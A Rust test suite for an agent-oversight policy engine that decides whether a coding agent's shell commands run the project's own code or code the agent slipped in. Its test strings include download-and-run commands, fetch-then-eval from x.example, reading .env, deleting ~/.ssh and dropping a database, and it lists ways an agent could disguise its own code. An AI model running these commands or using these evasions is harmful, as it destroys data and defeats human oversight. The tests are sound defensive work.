//! Opaque parts of the project's own code: the verdicts, and an agent's ways to pass off its own code as the project's.

mod loaded;
mod words;

use castellan_daemon::{Config, compile, shipped_rules};
use castellan_event::Verdict::{self, Allow, Ask, Defer, Deny};
use castellan_policy::Profile;
use castellan_trial::{Asked, Case, Laid, Link, Trial};
use serde_json::{Map, Value as Json, json};

/// Loads files with names that castellan cannot determine.
const LOADS: &str = "const { pick } = require('os'); require('./tests/' + pick());\n";

fn input(json: Json) -> Map<String, Json> {
    let Json::Object(input) = json else { return Map::new() };
    input
}

/// Returns a case of a project with an Opaque program, and with files for earlier calls.
fn project(command: &str) -> Case {
    let text = |text: &str| Laid::Text(text.to_owned());
    let link = |link: &str| Laid::Link(Link { link: link.to_owned() });
    let files = [
        ("run.js", text(LOADS)),
        ("other.js", text("console.log(1)\n")),
        ("package.json", text(r#"{"scripts": {"go": "node run.js"}}"#)),
        ("p.patch", text("--- a/run.js\n+++ b/run.js\n@@ -1 +1 @@\n-x\n+y\n")),
        ("alias.js", link("/home/dev/project/run.js")),
        ("outside.js", link("/srv/run.js")),
        ("/srv/run.js", text(LOADS)),
        ("/tmp/run.js", text(LOADS)),
        ("node_modules/x/run.js", text(LOADS)),
    ];
    let files = files.into_iter().map(|(path, laid)| (path.to_owned(), laid)).collect();
    Case { files, ..Case::new("Bash", input(json!({ "command": command }))) }
}

fn with(path: &str, text: &str, command: &str) -> Case {
    let mut case = project(command);
    case.files.insert(path.to_owned(), Laid::Text(text.to_owned()));
    case
}

fn after(mut case: Case, tool: &str, earlier: Json) -> Case {
    case.earlier.push(Asked { tool: tool.to_owned(), input: input(earlier) });
    case
}

fn verdict(case: &Case, profile: Profile) -> (Verdict, String) {
    let config = Config { settings: profile.settings(), ..Config::default() };
    let compiled = compile(&[], &config);
    assert_eq!(compiled.error(), None);
    let judged = Trial::new(&compiled.policy).without_prompts().judge(case).unwrap();
    (judged.decision.verdict, format!("{:?} {:?}", judged.facts.own_scripts, judged.facts.effects))
}

/// Checks a call of an agent that itself asks a person before each command.
fn check_prompted(case: &Case, expected: Verdict) {
    let compiled = compile(&[], &Config::default());
    let judged = Trial::new(&compiled.policy).judge(case).unwrap();
    let (found, files) = (judged.decision.verdict, judged.facts.session_scripts);
    assert_eq!(found, expected, "{:?} after {:?}\n{files:?}", case.call, case.earlier);
}

fn check(case: &Case, expected: Verdict) {
    let (found, why) = verdict(case, Profile::Standard);
    assert_eq!(found, expected, "{:?} after {:?}\n{why}", case.call, case.earlier);
}

#[test]
fn the_projects_own_code_asks_nobody_in_standard() {
    for command in ["node run.js", "npm run go", "npm run go && ls", "node alias.js", "node ./run.js --fast"]
    {
        check(&project(command), Defer);
        assert!(verdict(&project(command), Profile::Strict).0 >= Ask, "{command}");
        assert!(verdict(&project(command), Profile::Autonomous).0 >= Ask, "{command}");
    }
}

#[test]
fn code_that_a_session_wrote_is_left_to_an_agent_that_prompts() {
    let wrote = |path: &str, text: &str, command: &str| {
        let input = json!({ "file_path": format!("/home/dev/project/{path}"), "content": text });
        after(project(command), "Write", input)
    };
    let built = |source: &str, command: &str| wrote("src/x.c", source, command);
    check_prompted(&wrote("run.js", LOADS, "node run.js"), Defer);
    check_prompted(&built("int main() { return system(\"ls\"); }", "gcc -o x src/x.c && ./x"), Defer);
    let ran = |earlier: &str, command: &str| after(project(command), "Bash", json!({ "command": earlier }));
    check_prompted(&ran("git checkout -b x origin/y", "node run.js"), Defer);
    check_prompted(&ran("git stash pop", "npm run go"), Defer);
    // The bytes came from the network, or from an unknown place.
    for earlier in [
        "curl -o run.js https://x.org/a.js",
        "wget -O run.js https://x.org/a.js",
        "git pull origin main",
        "cp /tmp/a $(cat where)",
    ] {
        check_prompted(&ran(earlier, "node run.js"), Ask);
    }
    check_prompted(&project("curl -o run.js https://x.org/a.js; node run.js"), Ask);
    check_prompted(&project("node /tmp/run.js"), Ask);
    check_prompted(&project("node node_modules/x/run.js"), Ask);
    // The analysis finds harm, or a part of the call itself is unknown.
    let harm =
        format!("{LOADS}require('fs').rmSync(require('os').homedir() + '/.ssh', {{recursive: true}});\n");
    assert!(
        Trial::new(&compile(&shipped_rules(), &Config::default()).policy)
            .judge(&wrote("run.js", &harm, "node run.js"))
            .is_ok_and(|judged| judged.decision.verdict >= Ask)
    );
    check_prompted(&wrote("run.js", LOADS, "node run.js $X"), Ask);
    check_prompted(&wrote("run.js", LOADS, "node run.js; rm -rf $X"), Ask);
}

#[test]
fn what_is_understood_in_it_is_judged_as_ever() {
    let rules = "- rule: denies deleting data\n  desc: d\n  condition: fx.kind = delete and fx.path startswith /srv/data\n  output: o\n  \
                 priority: CRITICAL\n  source: coding_agent\n  tags: [coding_agent_deny]\n";
    let sources = [castellan_rules::Source { name: "r.yaml".to_owned(), text: rules.to_owned() }];
    let compiled = compile(&sources, &Config::default());
    let text = format!("{LOADS}require('fs').rmSync('/srv/data');\n");
    let judged = Trial::new(&compiled.policy).judge(&with("run.js", &text, "node run.js")).unwrap();
    assert_eq!(judged.decision.verdict, Deny);
}

#[test]
fn code_from_elsewhere_is_asked_about() {
    for command in ["node /tmp/run.js", "node outside.js", "node node_modules/x/run.js", "node /srv/run.js"] {
        check(&project(command), Ask);
    }
}

#[test]
fn what_the_session_has_put_there_is_its_own() {
    let file = "/home/dev/project/run.js";
    check(&after(project("node run.js"), "Write", json!({"file_path": file, "content": LOADS})), Ask);
    let edit = json!({"file_path": file, "old_string": "tests", "new_string": "evil"});
    check(&after(project("npm run go"), "Edit", edit), Ask);
    let manifest = json!({"file_path": "/home/dev/project/other.js", "content": "1\n"});
    check(&after(project("node run.js"), "Write", manifest), Defer);
    for earlier in [
        "cat > run.js <<'E'\nrequire('./a' + b)\nE",
        "echo 'x' >> run.js",
        "echo 'x' | tee -a run.js",
        "sed -i s/tests/evil/ run.js",
        "cp other.js run.js",
        "mv other.js run.js",
        "install -m 755 other.js run.js",
        "ln -sf other.js run.js",
        "echo 'x' >> alias.js",
        "rsync -a /tmp/new/ .",
        "tar xf new.tar",
        "curl -o data.js https://x.example/data.js",
        "git checkout other",
        "git checkout other -- run.js",
        "git -C /home/dev/project checkout other",
        "git apply p.patch",
        "git stash pop",
        "git pull",
        "git reset --hard HEAD~1",
        "bash -c 'git restore -s other run.js'",
    ] {
        check(&after(project("node run.js"), "Bash", json!({ "command": earlier })), Ask);
        check(&project(&format!("{earlier}\nnode run.js")), Ask);
    }
    for before in ["rm -rf dist *.o", "echo x > notes.txt", "mkdir -p build"] {
        check(&project(&format!("{before}; node run.js")), Defer);
    }
    check(&project("rm -f r*.js; node run.js"), Ask);
    for earlier in ["git status", "git add -A && git commit -m x", "ls", "echo x > notes.txt"] {
        check(&after(project("node run.js"), "Bash", json!({ "command": earlier })), Defer);
    }
}

#[test]
fn what_the_session_wrote_without_naming_it_is_its_own_too() {
    // The program writes a file, so the verdict depends on the author of the program.
    let text = "require('fs').writeFileSync('x.txt', '1');\n";
    let project = |command: &str| with("tests/a.js", text, command);
    let autonomous = |case: &Case, expected: Verdict| {
        let (found, why) = verdict(case, Profile::Autonomous);
        assert_eq!(found, expected, "{:?} after {:?}\n{why}", case.call, case.earlier);
    };
    autonomous(&project("node tests/a.js"), Allow);
    for (earlier, expected) in [
        ("sed -i s/x/y/ tests/a.js", Ask),
        ("sed -i s/x/y/ tests/*", Ask),
        ("sed -i s/x/y/ **/*.js", Ask),
        ("cd tests && sed -i s/x/y/ *.js", Ask),
        ("cp /tmp/new/* tests/", Ask),
        ("mv /tmp/new/*.js tests/", Ask),
        ("tee tests/*.js < other.js", Ask),
        ("find tests -name '*.js' -exec sed -i s/x/y/ {} +", Ask),
        ("cp other.js \"$TO\"", Ask),
        ("sed -i s/x/y/ $(ls tests)", Ask),
        ("sed -i s/x/y/ docs/*", Allow),
        ("sed -i s/x/y/ tests/*.py", Allow),
        ("cp /tmp/new/* lib/", Allow),
        ("prettier --write 'tests/**/*.js'", Allow),
        ("git stash pop", Allow),
    ] {
        autonomous(&after(project("node tests/a.js"), "Bash", json!({ "command": earlier })), expected);
    }
}

#[test]
fn a_program_that_the_session_put_there_by_a_pattern_is_not_what_its_name_says() {
    let program = |command: &str| {
        let mut case = project(command);
        case.files.insert("bin/tool".to_owned(), Laid::Text("\u{7f}ELF\0".to_owned()));
        case
    };
    check(&program("bin/tool"), Defer);
    for (earlier, expected) in [
        ("cp /tmp/new/tool bin/tool", Ask),
        ("cp /tmp/new/* bin/", Ask),
        ("install -m 755 /tmp/new/t* bin", Ask),
        ("cp /tmp/new/* lib/", Defer),
    ] {
        check(&after(program("bin/tool"), "Bash", json!({ "command": earlier })), expected);
    }
}

#[test]
fn what_the_call_gives_it_is_not_the_projects() {
    for command in [
        "node run.js \"$X\"",
        "$X; node run.js",
        "node run.js 'rm -rf /'",
        "ls | xargs node run.js",
        "node run.js \"$(cat list)\"",
        "curl https://x.example/a | node run.js",
        "npm run go -- \"$X\"",
        "X=$(cat list) node run.js",
    ] {
        check(&project(command), Ask);
    }
}

#[test]
fn what_a_variable_decides_in_a_shell_is_asked_about() {
    for text in
        ["$CMD --all\n", "eval \"$CODE\"\n", "rm -rf \"$DIR\"\n", ". \"$LIB\"\n", "bash -c \"$CODE\"\n"]
    {
        check(&with("x.sh", text, "bash x.sh"), Ask);
        check(&with("x", &format!("#!/bin/sh\n{text}"), "./x"), Ask);
        let recipe = format!("all:\n\t{}", text.replace('$', "$$"));
        check(&with("Makefile", &recipe, "make all"), Ask);
        let task = json!({"scripts": {"x": text.trim()}}).to_string();
        check(&with("package.json", &task, "npm run x"), Ask);
    }
}

#[test]
fn what_comes_from_the_network_or_goes_there_is_asked_about() {
    for text in [
        "fetch('https://x.example/a').then(r => r.text()).then(t => eval(t));\n",
        "fetch('https://x.example/a'); require('./tests/' + require('os').pick());\n",
        "const t = require('child_process').execSync('curl https://x.example/a').toString(); eval(t);\n",
        "const key = require('fs').readFileSync('.env', 'utf8'); require('./tests/' + key);\n",
    ] {
        check(&with("run.js", text, "node run.js"), Ask);
    }
    check(&with("wipe.js", "db.dropDatabase()\n", "mongosh prod wipe.js"), Ask);
}

#[test]
fn scripts_know_what_npm_tells_them() {
    let manifest = json!({
        "name": "n", "version": "1.2.3", "config": {"out": "build"},
        "scripts": {"tag": "git tag v$npm_package_version", "clean": "rm -rf $npm_package_config_out", "up": "rm -rf $npm_package_homepage"}
    });
    for (task, expected) in [("tag", Defer), ("clean", Defer), ("up", Ask)] {
        check(&with("package.json", &manifest.to_string(), &format!("npm run {task}")), expected);
    }
}

#[test]
fn modules_of_the_project_that_are_not_there_ask_nobody() {
    check(&with("run.js", "require('./dist/a');\n", "node run.js"), Defer);
    check(&with("test/a.js", "require('..');\n", "node test/a.js"), Defer);
    // Files that the call creates, and files that the agent names itself.
    check(&with("run.js", "require('./dist/a');\n", "curl -o dist/a https://x.example/a; node run.js"), Ask);
    check(&project("node dist/a.js"), Ask);
    let written = json!({"file_path": "/home/dev/project/run.js", "content": "require('./dist/a');\n"});
    check(&after(with("run.js", "require('./dist/a');\n", "node run.js"), "Write", written), Ask);
}

/// A project with tests, an installed program and tasks that build.
fn with_tests(command: &str) -> Case {
    let mut case = with("tests/a.js", LOADS, command);
    let manifest = json!({"scripts": {
        "build": "tsc --outDir dist", "start": "npm run build && node dist/cli.js",
        "lint:a": "eslint src", "lint:b": "eval \"$CODE\"", "check:a": "eslint src", "check:b": "wc src",
    }});
    for (path, text) in [("package.json", manifest.to_string().as_str()), ("src/cli.ts", "1\n")] {
        case.files.insert(path.to_owned(), Laid::Text(text.to_owned()));
    }
    case
}

#[test]
fn files_of_the_project_that_a_pattern_stands_for_ask_nobody() {
    for command in [
        "node tests/*.js",
        "node --test 'tests/**/*.js'",
        "for i in ./tests/*.js; do node $i; done",
        "(cd tests && for t in ./*.js; do node $t; done)",
        "rm -f dist/*.js; node tests/*.js",
    ] {
        check(&with_tests(command), Defer);
        assert!(verdict(&with_tests(command), Profile::Strict).0 >= Ask, "{command}");
    }
    for command in [
        "node /tmp/*.js",
        "node ../*.js",
        "node tests/../../*.js",
        "node node_modules/x/*.js",
        // A matching file may have a name that is an option.
        "node *.js",
        "node tests/*.js \"$X\"",
        "curl -o tests/b.js https://x.example/b.js; node tests/*.js",
        "cp /tmp/run.js tests/b.js; node tests/*.js",
        "ln -s /srv/run.js tests/b.js; node tests/*.js",
        "mv /tmp/more tests/more; node --test 'tests/**/*.js'",
        "git checkout other && node tests/*.js",
        "tar xf new.tar && node tests/*.js",
    ] {
        check(&with_tests(command), Ask);
    }
    for earlier in [
        "cp /tmp/run.js tests/b.js",
        "ln -s /srv/run.js tests/b.js",
        "ln -sfn /srv tests",
        "tar xf new.tar -C tests",
        "sed -i s/a/b/ tests/*.js",
    ] {
        check(&after(with_tests("node tests/*.js"), "Bash", json!({ "command": earlier })), Ask);
    }
    let elsewhere = json!({"command": "cp /tmp/run.js docs/b.js"});
    check(&after(with_tests("node tests/*.js"), "Bash", elsewhere), Defer);
}

#[test]
fn what_the_projects_code_makes_is_its_own_while_nobody_else_changes_the_project() {
    check(&with_tests("npm start"), Defer);
    check(&with_tests("npm run build && node dist/cli.js"), Defer);
    for command in [
        "cp /tmp/run.js src/cli.ts; npm start",
        "curl -o src/cli.ts https://x.example/cli.ts; npm start",
        "cp /tmp/run.js dist/cli.js; node dist/cli.js",
        "npm start -- \"$X\"",
    ] {
        check(&with_tests(command), Ask);
    }
    for (tool, earlier) in [
        ("Write", json!({"file_path": "/home/dev/project/src/cli.ts", "content": "evil()"})),
        ("Bash", json!({"command": "cp /tmp/run.js src/other.ts"})),
    ] {
        check(&after(with_tests("npm start"), tool, earlier), Ask);
    }
}

#[test]
fn what_a_build_makes_of_the_projects_sources_is_its_own() {
    for command in [
        "gcc -O2 -o x src/x.c && ./x --fast",
        "mkdir -p build && cc -o build/x src/x.c && build/x",
        "go build -o x . && ./x",
        "rm -rf build; cmake -S . -B build && cmake --build build && ./build/x",
        "rm -rf build; mkdir build && cd build && cmake .. && make -j4",
        "tsc --outDir dist && node dist/cli.js",
        "make all\n./x",
    ] {
        let project = |command: &str| with("Makefile", "all:\n\tcc -o x src/x.c\n", command);
        check(&project(command), Defer);
        let wrote = |text: &str| json!({"file_path": "/home/dev/project/src/x.c", "content": text});
        check(
            &after(project(command), "Write", wrote("#include <stdio.h>\nint main() { puts(\"x\"); }")),
            Defer,
        );
        for text in [
            "int main() { system(\"rm -rf x\"); }",
            "#include \"/etc/passwd\"",
            "int main() { unlink(\"x\"); }",
            "int main() { execl(\"x\", 0); }",
            "__asm__(\"syscall\");",
            "#define F sys##tem\nint main() { F(\"x\"); }",
        ] {
            check(&after(project(command), "Write", wrote(text)), Ask);
        }
        for path in ["CMakeLists.txt", "x", "src/x.s", "dist/cli.js"] {
            let other = json!({"file_path": format!("/home/dev/project/{path}"), "content": "x"});
            check(&after(project(command), "Write", other), Ask);
        }
    }
    for command in [
        "gcc -o x /tmp/x.c && ./x",
        "gcc -o x ../x.c && ./x",
        "gcc -I/tmp -o x src/x.c && ./x",
        "gcc -fplugin=/tmp/p.so -o x src/x.c && ./x",
        "echo 'int main() {}' | gcc -x c -o x - && ./x",
        "CC=/tmp/cc gcc -o x src/x.c && ./x",
        "cp /tmp/x.c src/x.c; gcc -o x src/x.c && ./x",
        "gcc -o x src/x.c; cp /tmp/x x; ./x",
        "curl -o src/x.c https://x.example/x.c; gcc -o x src/x.c && ./x",
        "gcc -o node_modules/x/x src/x.c && node_modules/x/x",
        "gcc -o x src/x.c && ./x \"$X\"",
    ] {
        check(&project(command), Ask);
    }
}

#[test]
fn a_package_of_the_project_that_is_not_found_is_its_own_code() {
    let project = || with("package.json", r#"{"workspaces": ["libs/*"]}"#, "pnpm --filter app test");
    check(&project(), Defer);
    let wrote = json!({"file_path": "/home/dev/project/deep/app/package.json", "content": "{}"});
    check(&after(project(), "Write", wrote), Ask);
}
